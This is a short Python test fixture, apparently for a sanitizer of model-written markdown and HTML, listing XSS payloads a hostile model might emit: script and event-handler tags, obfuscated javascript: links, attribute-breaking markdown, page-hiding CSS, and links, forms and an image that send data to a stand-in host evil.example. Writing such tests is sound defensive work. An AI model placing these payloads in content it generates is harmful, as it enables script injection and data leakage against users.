"""What a hostile model writes; none of it may run or fetch anything, wherever it is shown.

Each tries to set `window.__xss`, to reach another host, or to hide the page.
"""

HIT = "window.__xss=1"
PAYLOADS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f'<math><mi xlink:href="javascript:{HIT}">x</mi></math>',
    "<style>body{display:none!important}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    f"<a href=javascript:{HIT}>raw</a>",
    f"[link](javascript:{HIT})",
    f"[link](JaVaScRiPt:{HIT})",
    f"[link](&#106;avascript:{HIT})",
    f"[link](data:text/html,<script>{HIT}</script>)",
    f"[link](vbscript:{HIT})",
    "![image](http://evil.example/?q=secret)",
    "![image](x 'a\" onerror=\"window.__xss=1')",
    f'![a" onerror="{HIT}](http://evil.example/i.png)',
    f'```html"><img src=x onerror={HIT}>\ncode\n```',
    f"`<img src=x onerror={HIT}>`",
    '<a data-commandlinker-command="notebook:insert-cell-below" href="#">click</a>',
    '<form action="http://evil.example"><input name=a><button>go</button></form>',
    f'<http://evil.example/"onmouseover="{HIT}>',
    f"| a |\n|---|\n| <img src=x onerror={HIT}> |",
    f"# heading <img src=x onerror={HIT}>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
)
ALL = "\n\n".join(PAYLOADS)
#: Elements that no text of a model may become.
FORBIDDEN = "script, iframe, img, svg, style, link, base, form, input, object, embed, meta, math"
